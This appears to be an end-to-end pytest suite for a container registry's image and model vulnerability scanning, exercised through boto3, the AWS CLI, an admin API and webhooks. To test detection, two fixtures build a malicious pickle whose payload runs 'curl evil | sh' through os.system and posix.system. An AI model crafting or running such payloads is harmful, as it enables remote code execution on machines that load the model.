"""Scan on push end to end: a real server, images pushed with skopeo and a model pushed
with oras-py, findings read back through boto3 in ECR's basic and enhanced shapes.

The images are the scan engine's fixtures (tests/support/layers.py): a Debian base layer
with known dpkg packages, and an application layer with an npm package, a malicious
pickle and a harmless safetensors file; the advisories are tests/fixtures/osv.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import oras.provider
import pytest
from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

from e2e.conftest import Cli
from support import layers as img
from support import models, osv
from support.aws import aws_client, error_of
from support.images import OCI_CONFIG, OCI_INDEX, OCI_MANIFEST
from support.server import ADMIN_ACCESS_KEY_ID, ADMIN_SECRET_ACCESS_KEY, RunningServer, start_server
from support.tools import require

pytestmark = pytest.mark.e2e

ADMIN_KEY = (ADMIN_ACCESS_KEY_ID, ADMIN_SECRET_ACCESS_KEY)

BASE = img.layer({"etc/os-release": img.DEBIAN_OS_RELEASE, "var/lib/dpkg/status": img.DPKG_STATUS})
APP = img.layer(
    {
        "app/node_modules/lodash/package.json": b'{"name": "lodash", "version": "4.17.20"}',
        "app/models/classifier.pkl": models.call("posix", "system", "curl evil | sh"),
        "app/models/weights.safetensors": models.safetensors({"w": ("F32", [2], (0, 8))}, 8),
    },
    compression="zstd",
)
OTHER_APP = img.layer({"srv/readme.txt": b"another application on the same base\n"})

EXPECTED = {
    # (name, severity, package_name, package_version)
    ("CVE-2024-2961", "HIGH", "libc6", "2.36-9+deb12u4"),
    ("CVE-2023-5678", "LOW", "libssl3", "3.0.11-1~deb12u2"),
    ("CVE-2022-3715", "INFORMATIONAL", "bash", "5.2.15-2+b2"),
    ("CVE-2023-48795", "MEDIUM", "openssh-client", "1:9.2p1-2+deb12u2"),
    ("CVE-2021-23337", "HIGH", "lodash", "4.17.20"),
    ("pickle-code-execution", "CRITICAL", None, None),
}
EXPECTED_COUNTS = {"CRITICAL": 1, "HIGH": 2, "INFORMATIONAL": 1, "LOW": 1, "MEDIUM": 1}


def layout(directory: Path, app: bytes) -> Path:
    img.write_layout(directory, [(BASE, img.media_type("gzip")), (app, img.media_type("zstd"))], tag="v1")
    return directory


def push(skopeo: Cli, server: RunningServer, source: Path, target: str) -> None:
    skopeo.run(
        "copy", "--dest-tls-verify=false", "--dest-creds", f"{server.user}:{server.password}",
        f"oci:{source}:v1", f"docker://{server.registry}/{target}",
    )  # fmt: skip


def wait_for(check: Callable[[], Any], timeout: float = 90) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        result = check()
        if result is not None:
            return result
        if time.monotonic() > deadline:
            raise AssertionError("timed out")
        time.sleep(0.2)


def finished_scan(ecr: Any, repository: str, tag: str, **extra: Any) -> dict[str, Any]:
    def check() -> dict[str, Any] | None:
        try:
            response: dict[str, Any] = ecr.describe_image_scan_findings(
                repositoryName=repository, imageId={"imageTag": tag}, **extra
            )
        except ecr.exceptions.ScanNotFoundException:
            return None
        return None if response["imageScanStatus"]["status"] in ("PENDING", "IN_PROGRESS") else response

    return dict(wait_for(check))


def all_findings(ecr: Any, repository: str, tag: str, key: str, page: int) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    extra: dict[str, Any] = {"maxResults": page}
    while True:
        response = finished_scan(ecr, repository, tag, **extra)
        found += response["imageScanFindings"][key]
        if "nextToken" not in response:
            return found
        extra["nextToken"] = response["nextToken"]


def attributes(finding: dict[str, Any]) -> dict[str, str]:
    return {a["key"]: a["value"] for a in finding["attributes"]}


def scan_events(server: RunningServer, event_type: str = "scan.complete") -> list[dict[str, Any]]:
    return list(server.cli_json("events", "list", "--type", event_type, "--output", "json")["events"])


@pytest.fixture
def ecr(server: RunningServer) -> Any:
    server.cli("vulndb", "import", str(osv.RECORDS_DIR))
    return aws_client(server, "ecr")


def test_basic_findings_of_an_image_pushed_with_skopeo(
    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
) -> None:
    ecr.create_repository(repositoryName="team/app", imageScanningConfiguration={"scanOnPush": True})
    push(skopeo, server, layout(tmp_path / "app", APP), "team/app:v1")

    response = finished_scan(ecr, "team/app", "v1")
    assert response["imageScanStatus"] == {
        "status": "COMPLETE",
        "description": "The scan was completed successfully.",
    }
    scan = response["imageScanFindings"]
    assert scan["findingSeverityCounts"] == EXPECTED_COUNTS
    assert "enhancedFindings" not in scan
    found = all_findings(ecr, "team/app", "v1", "findings", page=2)
    assert len(found) == 6
    assert {
        (f["name"], f["severity"], attributes(f).get("package_name"), attributes(f).get("package_version"))
        for f in found
    } == EXPECTED
    glibc = next(f for f in found if f["name"] == "CVE-2024-2961")
    assert glibc["uri"] == "https://osv.dev/vulnerability/CVE-2024-2961"
    lodash = attributes(next(f for f in found if f["name"] == "CVE-2021-23337"))
    assert lodash["CVSS3_VECTOR"] == "CVSS:3.1/AV:N/AC:L/PR:H/UI:N/S:U/C:H/I:H/A:H"
    assert lodash["CVSS3_SCORE"] == "7.2"
    model = next(f for f in found if f["severity"] == "CRITICAL")
    assert attributes(model)["file_path"] == "app/models/classifier.pkl"
    assert model["description"] == "imports posix.system"

    [detail] = ecr.describe_images(repositoryName="team/app")["imageDetails"]
    assert detail["imageScanStatus"]["status"] == "COMPLETE"
    assert detail["imageScanFindingsSummary"]["findingSeverityCounts"] == EXPECTED_COUNTS
    assert "vulnerabilitySourceUpdatedAt" in detail["imageScanFindingsSummary"]

    [complete] = scan_events(server)
    assert complete["data"]["scan-status"] == "COMPLETE"
    assert complete["data"]["finding-severity-counts"] == EXPECTED_COUNTS
    [new] = scan_events(server, "scan.finding.new")
    assert new["data"]["count"] == 6

    # The same findings through /admin/v1 and the CLI, model files in the same list.
    admin = signed(server, "/admin/v1/findings?repository=team%2Fapp&imageTag=v1", ADMIN_KEY)
    assert admin.status_code == 200, admin.text
    cli = server.cli_json("scan", "findings", "team/app:v1", "--output", "json")
    for document in (admin.json(), cli):
        assert (document["status"], document["findingSeverityCounts"]) == ("COMPLETE", EXPECTED_COUNTS)
        assert {
            (f["name"], f["severity"], f["package"], f["version"]) for f in document["findings"]
        } == EXPECTED
        [model_file] = [f for f in document["findings"] if f["kind"] == "model"]
        assert (model_file["file"], model_file["detail"]) == (
            "app/models/classifier.pkl",
            "imports posix.system",
        )
    table = server.cli("scan", "findings", "team/app:v1", "--output", "table").stdout
    rows = [line.split() for line in table.splitlines()]
    assert rows[2] == ["SEVERITY", "FINDING", "PACKAGE", "/", "FILE", "VERSION", "/", "DETAIL", "FIXED", "IN"]
    assert rows[3] == [
        "CRITICAL",
        "pickle-code-execution",
        "app/models/classifier.pkl",
        "imports",
        "posix.system",
    ]
    assert signed(server, "/admin/v1/findings?imageTag=v1", ADMIN_KEY).status_code == 400
    assert (
        signed(server, "/admin/v1/findings?repository=team%2Fapp&imageTag=v9", ADMIN_KEY).status_code == 404
    )
    server.cli("iam", "create-user", "--user-name", "nobody")
    key = server.cli_json("iam", "create-access-key", "--user-name", "nobody")["AccessKey"]
    denied = signed(
        server,
        "/admin/v1/findings?repository=team%2Fapp&imageTag=v1",
        (key["AccessKeyId"], key["SecretAccessKey"]),
    )
    assert denied.status_code == 403
    assert "ecr:DescribeImageScanFindings" in denied.json()["error"]["message"]


def aws_cli(server: RunningServer, home: Path) -> Callable[..., subprocess.CompletedProcess[str]]:
    executable = require("awscli", "aws")
    env = {key: value for key, value in os.environ.items() if not key.startswith("AWS_")}
    env.update(
        AWS_ACCESS_KEY_ID=ADMIN_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY=ADMIN_SECRET_ACCESS_KEY,
        AWS_DEFAULT_REGION="us-east-1", AWS_DEFAULT_OUTPUT="json", AWS_PAGER="",
        AWS_EC2_METADATA_DISABLED="true", AWS_ENDPOINT_URL_ECR=server.url,
        AWS_CONFIG_FILE=str(home / "aws-config"), AWS_SHARED_CREDENTIALS_FILE=str(home / "aws-credentials"),
    )  # fmt: skip

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        command = [executable, *args]
        return subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)

    return run


def signed(server: RunningServer, path: str, key: tuple[str, str]) -> httpx.Response:
    request = AWSRequest("GET", server.url + path, data=b"")
    SigV4Auth(Credentials(*key), "strongroom", "us-east-1").add_auth(request)
    return httpx.get(server.url + path, headers=dict(request.headers))


def test_a_shared_base_layer_is_analysed_once_and_an_enhanced_registry_answers_enhanced(
    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
) -> None:
    ecr.put_registry_scanning_configuration(
        scanType="ENHANCED",
        rules=[
            {
                "scanFrequency": "SCAN_ON_PUSH",
                "repositoryFilters": [{"filter": "ml/*", "filterType": "WILDCARD"}],
            }
        ],
    )
    push(skopeo, server, layout(tmp_path / "app", APP), "ml/first:v1")
    finished_scan(ecr, "ml/first", "v1")
    # Not covered by the rule, and not scanning on push itself: no scan.
    push(skopeo, server, layout(tmp_path / "app", APP), "other/app:v1")
    push(skopeo, server, layout(tmp_path / "other", OTHER_APP), "ml/second:v1")
    finished_scan(ecr, "ml/second", "v1")

    first, second = sorted(scan_events(server), key=lambda e: e["data"]["repository-name"])
    assert (first["data"]["layers-analysed"], first["data"]["layers-from-cache"]) == (2, 0)
    # The base layer was analysed for ml/first: ml/second reads only its own layer.
    assert (second["data"]["layers-analysed"], second["data"]["layers-from-cache"]) == (1, 1)
    with pytest.raises(ecr.exceptions.ScanNotFoundException):
        ecr.describe_image_scan_findings(repositoryName="other/app", imageId={"imageTag": "v1"})

    found = all_findings(ecr, "ml/first", "v1", "enhancedFindings", page=4)
    assert {
        (
            f["packageVulnerabilityDetails"]["vulnerabilityId"]
            if "packageVulnerabilityDetails" in f
            else f["title"].split(" ")[0],
            f["severity"],
        )
        for f in found
    } == {(name, severity) for name, severity, _, _ in EXPECTED}
    assert {f["status"] for f in found} == {"ACTIVE"}
    lodash = next(f for f in found if f["title"].startswith("CVE-2021-23337"))
    [package] = lodash["packageVulnerabilityDetails"]["vulnerablePackages"]
    assert (package["name"], package["version"], package["packageManager"]) == (
        "lodash",
        "4.17.20",
        "NODEPKG",
    )
    assert lodash["fixAvailable"] == "YES"
    assert package["fixedInVersion"] == "4.17.21"
    assert lodash["resources"][0]["details"]["awsEcrContainerImage"]["repositoryName"] == "ml/first"


def test_start_image_scan_once_a_day_keeps_first_seen(
    server: RunningServer, ecr: Any, skopeo: Cli, tmp_path: Path
) -> None:
    ecr.put_registry_scanning_configuration(scanType="ENHANCED", rules=[])
    ecr.create_repository(repositoryName="manual/app")
    push(skopeo, server, layout(tmp_path / "app", APP), "manual/app:v1")
    with pytest.raises(ecr.exceptions.ScanNotFoundException):
        ecr.describe_image_scan_findings(repositoryName="manual/app", imageId={"imageTag": "v1"})

    started = ecr.start_image_scan(repositoryName="manual/app", imageId={"imageTag": "v1"})
    assert started["imageScanStatus"] == {"status": "PENDING"}
    assert started["imageId"]["imageDigest"].startswith("sha256:")
    code, message, status = error_of(
        ecr.start_image_scan, repositoryName="manual/app", imageId={"imageTag": "v1"}
    )
    assert (code, status) == ("LimitExceededException", 400)
    assert "once per 24 hours" in message
    found = all_findings(ecr, "manual/app", "v1", "enhancedFindings", page=100)
    assert len(found) == 6

    # The AWS CLI reads the same, paginating itself (4 per call).
    aws = aws_cli(server, tmp_path)
    listed = aws("ecr", "describe-image-scan-findings", "--repository-name", "manual/app",
                 "--image-id", "imageTag=v1", "--page-size", "4")  # fmt: skip
    assert listed.returncode == 0, listed.stderr
    document = json.loads(listed.stdout)
    assert document["imageScanStatus"]["status"] == "COMPLETE"
    assert len(document["imageScanFindings"]["enhancedFindings"]) == 6
    assert document["imageScanFindings"]["findingSeverityCounts"] == EXPECTED_COUNTS
    refused = aws("ecr", "start-image-scan", "--repository-name", "manual/app", "--image-id", "imageTag=v1")
    assert refused.returncode != 0
    assert "LimitExceededException" in refused.stderr

    code, _, status = error_of(
        ecr.start_image_scan, repositoryName="manual/app", imageId={"imageTag": "nope"}
    )
    assert (code, status) == ("ImageNotFoundException", 400)
    code, _, status = error_of(
        ecr.describe_image_scan_findings, repositoryName="manual/none", imageId={"imageTag": "v1"}
    )
    assert (code, status) == ("RepositoryNotFoundException", 400)
    for bad in (
        {"imageId": {}},
        {"imageId": {"imageDigest": "sha256:nothex"}},
        {"imageId": {"imageTag": "v1"}, "nextToken": "%%%"},
        {"imageId": {"imageTag": "v1"}, "maxResults": 5000},
    ):
        code, _, status = error_of(ecr.describe_image_scan_findings, repositoryName="manual/app", **bad)
        assert (code, status) == ("InvalidParameterException", 400), bad


def test_a_model_pushed_with_oras_gets_a_critical_finding_for_its_malicious_pickle(
    server: RunningServer, ecr: Any, tmp_path: Path
) -> None:
    rules = [{"filter": "models/*", "filterType": "WILDCARD"}]
    ecr.put_registry_scanning_configuration(
        scanType="BASIC", rules=[{"scanFrequency": "SCAN_ON_PUSH", "repositoryFilters": rules}]
    )
    files = tmp_path / "model"
    files.mkdir()
    (files / "classifier.pkl").write_bytes(models.call("os", "system", "curl evil | sh"))
    (files / "weights.safetensors").write_bytes(models.safetensors({"w": ("F32", [2], (0, 8))}, 8))
    registry = oras.provider.Registry(hostname=server.registry, insecure=True, auth_backend="basic")
    registry.login(
        server.user, server.password, hostname=server.registry, config_path=str(tmp_path / "config.json")
    )
    try:
        # oras-py pushes each file as a layer of its default type, application/vnd.oci.image.layer.v1.tar.
        response = registry.push(
            f"{server.registry}/models/classifier:v1",
            files=[str(files / "classifier.pkl"), str(files / "weights.safetensors")],
            disable_path_validation=True,
            quiet=True,
        )
        assert response.status_code == 201
    finally:
        registry.session.close()

    response = finished_scan(ecr, "models/classifier", "v1")
    assert response["imageScanStatus"]["status"] == "COMPLETE"
    [found] = response["imageScanFindings"]["findings"]
    assert (found["name"], found["severity"], found["description"]) == (
        "pickle-code-execution", "CRITICAL", "imports os.system"
    )  # fmt: skip
    assert attributes(found)["file_path"].endswith("classifier.pkl")
    assert response["imageScanFindings"]["findingSeverityCounts"] == {"CRITICAL": 1}


def put_blob(client: httpx.Client, name: str, data: bytes) -> dict[str, Any]:
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    started = client.post(f"/v2/{name}/blobs/uploads/")
    done = client.put(started.headers["location"], params={"digest": digest}, content=data)
    assert done.status_code == 201, done.text
    return {"digest": digest, "size": len(data)}


@pytest.fixture
def one_process(tmp_path: Path) -> Iterator[RunningServer]:
    """A server of one process: its job runner scans several images at once."""
    running = start_server(tmp_path / "one", args=["--workers", "1"])
    try:
        running.cli("vulndb", "import", str(osv.RECORDS_DIR))
        yield running
    finally:
        running.stop()


def test_an_index_is_scanned_per_platform_and_its_shared_layers_analysed_once(
    one_process: RunningServer,
) -> None:
    server, ecr = one_process, aws_client(one_process, "ecr")
    ecr.create_repository(repositoryName="multi/app", imageScanningConfiguration={"scanOnPush": True})
    name = "multi/app"
    descriptors = []
    with server.client() as client:
        layers = [
            {"mediaType": img.media_type("gzip"), **put_blob(client, name, BASE)},
            {"mediaType": img.media_type("zstd"), **put_blob(client, name, APP)},
        ]
        for architecture in ("amd64", "arm64"):
            config = json.dumps({"architecture": architecture, "os": "linux", "rootfs": {"type": "layers"}})
            manifest = json.dumps(
                {
                    "schemaVersion": 2,
                    "mediaType": OCI_MANIFEST,
                    "config": {"mediaType": OCI_CONFIG, **put_blob(client, name, config.encode())},
                    "layers": layers,
                }
            ).encode()
            digest = "sha256:" + hashlib.sha256(manifest).hexdigest()
            stored = client.put(
                f"/v2/{name}/manifests/{digest}", content=manifest, headers={"Content-Type": OCI_MANIFEST}
            )
            assert stored.status_code == 201, stored.text
            platform = {"os": "linux", "architecture": architecture}
            descriptors.append(
                {"mediaType": OCI_MANIFEST, "digest": digest, "size": len(manifest), "platform": platform}
            )
        index = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": descriptors})
        stored = client.put(f"/v2/{name}/manifests/v1", content=index, headers={"Content-Type": OCI_INDEX})
        assert stored.status_code == 201, stored.text

    found = all_findings(ecr, name, "v1", "findings", page=100)
    by_platform: dict[str, set[tuple[str, str]]] = {}
    for finding in found:
        by_platform.setdefault(attributes(finding)["platform"], set()).add(
            (finding["name"], finding["severity"])
        )
    expected = {(finding_name, severity) for finding_name, severity, _, _ in EXPECTED}
    assert by_platform == {"linux/amd64": expected, "linux/arm64": expected}
    # Three scans (each platform's image as pushed, then the index with both platforms)
    # ask for the same two layers eight times: each layer was analysed by one scan, and
    # the other six answers came from the cache (or from waiting for that scan).
    events = scan_events(server)
    assert len(events) == 3
    assert {event["data"]["scan-status"] for event in events} == {"COMPLETE"}
    assert sum(event["data"]["layers-analysed"] for event in events) == 2
    assert sum(event["data"]["layers-from-cache"] for event in events) == 6


@contextlib.contextmanager
def job_runner(server: RunningServer, name: str) -> Iterator[subprocess.Popen[bytes]]:
    """``strongroom jobs run`` on the server's store, as its own process group."""
    env = {**server.env, "STRONGROOM_DATA_DIR": str(server.data_dir)}
    with (server.data_dir.parent / f"{name}.log").open("ab") as output:
        process = subprocess.Popen(
            [sys.executable, "-m", "strongroom", "jobs", "run"],
            env=env, stdout=output, stderr=subprocess.STDOUT, start_new_session=True,
        )  # fmt: skip
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=30)


def test_a_scan_survives_sigkill_of_the_server_and_of_the_runner_scanning(
    tmp_path: Path, skopeo: Cli
) -> None:
    env = {"STRONGROOM_JOB_LEASE_SECONDS": "2", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
    server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
    try:
        server.cli("vulndb", "import", str(osv.RECORDS_DIR))
        ecr = aws_client(server, "ecr")
        ecr.create_repository(repositoryName="crash/app", imageScanningConfiguration={"scanOnPush": True})
        # A third layer big enough that the scan takes a moment to read it.
        filler = img.layer({"srv/zeros": bytes(192 * 1024 * 1024)})
        source = tmp_path / "app"
        img.write_layout(
            source,
            [(BASE, img.media_type("gzip")), (APP, img.media_type("zstd")), (filler, img.media_type("gzip"))],
            tag="v1",
        )
        push(skopeo, server, source, "crash/app:v1")
        pending = ecr.describe_image_scan_findings(repositoryName="crash/app", imageId={"imageTag": "v1"})
        assert pending["imageScanStatus"]["status"] == "PENDING"
        server.kill()  # the push's scan is only in the queue

        server = start_server(tmp_path / "data", env=env, args=["--no-jobs"])
        ecr = aws_client(server, "ecr")

        def status() -> str:
            response = ecr.describe_image_scan_findings(
                repositoryName="crash/app", imageId={"imageTag": "v1"}
            )
            return str(response["imageScanStatus"]["status"])

        with job_runner(server, "first-runner") as first:
            wait_for(lambda: True if status() == "IN_PROGRESS" else None, timeout=60)
            os.killpg(first.pid, signal.SIGKILL)  # mid-scan
        assert status() == "IN_PROGRESS"

        with job_runner(server, "second-runner"):
            response = finished_scan(ecr, "crash/app", "v1")
        assert response["imageScanStatus"]["status"] == "COMPLETE"
        assert response["imageScanFindings"]["findingSeverityCounts"] == EXPECTED_COUNTS
    finally:
        server.stop()


def test_an_image_without_layers_is_unsupported_and_a_lost_blob_fails_the_scan(
    server: RunningServer, ecr: Any
) -> None:
    ecr.create_repository(repositoryName="odd/app", imageScanningConfiguration={"scanOnPush": True})
    with server.client() as client:
        config = {"mediaType": OCI_CONFIG, **put_blob(client, "odd/app", b'{"os": "linux"}')}
        empty = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": config, "layers": []})
        stored = client.put(
            "/v2/odd/app/manifests/empty", content=empty, headers={"Content-Type": OCI_MANIFEST}
        )
        assert stored.status_code == 201, stored.text

        layer = {"mediaType": img.media_type("gzip"), **put_blob(client, "odd/app", OTHER_APP)}
        [path] = (server.data_dir / "storage").rglob(layer["digest"].split(":")[1] + "*")
        path.unlink()  # as a disk fault would: the metadata still lists the blob
        lost = json.dumps(
            {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": config, "layers": [layer]}
        )
        stored = client.put(
            "/v2/odd/app/manifests/lost", content=lost, headers={"Content-Type": OCI_MANIFEST}
        )
        assert stored.status_code == 201, stored.text

    unsupported = finished_scan(ecr, "odd/app", "empty")
    assert unsupported["imageScanStatus"] == {
        "status": "UNSUPPORTED_IMAGE",
        "description": "The image has no layers or files that can be scanned.",
    }
    failed = finished_scan(ecr, "odd/app", "lost")
    assert failed["imageScanStatus"]["status"] == "FAILED"
    assert "is missing from the store" in failed["imageScanStatus"]["description"]
    statuses = {
        detail["imageTags"][0]: detail["imageScanStatus"]["status"]
        for detail in ecr.describe_images(repositoryName="odd/app")["imageDetails"]
    }
    assert statuses == {"empty": "UNSUPPORTED_IMAGE", "lost": "FAILED"}


def test_scan_events_reach_a_webhook(tmp_path: Path) -> None:
    received: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self.send_response(204)
            self.send_header("content-length", "0")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    receiver = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=receiver.serve_forever, daemon=True).start()
    env = {"STRONGROOM_WEBHOOK_ALLOWED_NETWORKS": "127.0.0.0/8", "STRONGROOM_JOB_POLL_SECONDS": "0.1"}
    server = start_server(tmp_path / "data", env=env)
    try:
        server.cli("vulndb", "import", str(osv.RECORDS_DIR))
        url = f"http://127.0.0.1:{receiver.server_address[1]}/hook"
        server.cli("webhook", "create", "--url", url, "--events", "scan.complete,scan.finding.new")
        aws_client(server, "ecr").create_repository(
            repositoryName="hooked/app", imageScanningConfiguration={"scanOnPush": True}
        )
        with server.client() as client:
            config = {"mediaType": OCI_CONFIG, **put_blob(client, "hooked/app", b'{"os": "linux"}')}
            layers = [
                {"mediaType": img.media_type("gzip"), **put_blob(client, "hooked/app", BASE)},
                {"mediaType": img.media_type("zstd"), **put_blob(client, "hooked/app", APP)},
            ]
            manifest = {"schemaVersion": 2, "mediaType": OCI_MANIFEST, "config": config, "layers": layers}
            stored = client.put(
                "/v2/hooked/app/manifests/v1",
                content=json.dumps(manifest),
                headers={"Content-Type": OCI_MANIFEST},
            )
            assert stored.status_code == 201, stored.text
        wait_for(lambda: True if len(received) >= 2 else None, timeout=90)
    finally:
        server.stop()
        receiver.shutdown()
        receiver.server_close()

    by_type = {event["type"]: event for event in received}
    assert set(by_type) == {"io.strongroom.scan.complete", "io.strongroom.scan.finding.new"}
    complete = by_type["io.strongroom.scan.complete"]["data"]
    assert (complete["scan-status"], complete["repository-name"], complete["image-tags"]) == (
        "COMPLETE", "hooked/app", ["v1"]
    )  # fmt: skip
    assert complete["finding-severity-counts"] == EXPECTED_COUNTS
    new = by_type["io.strongroom.scan.finding.new"]["data"]
    assert {(f["name"], f["severity"]) for f in new["findings"]} == {(n, s) for n, s, _, _ in EXPECTED}
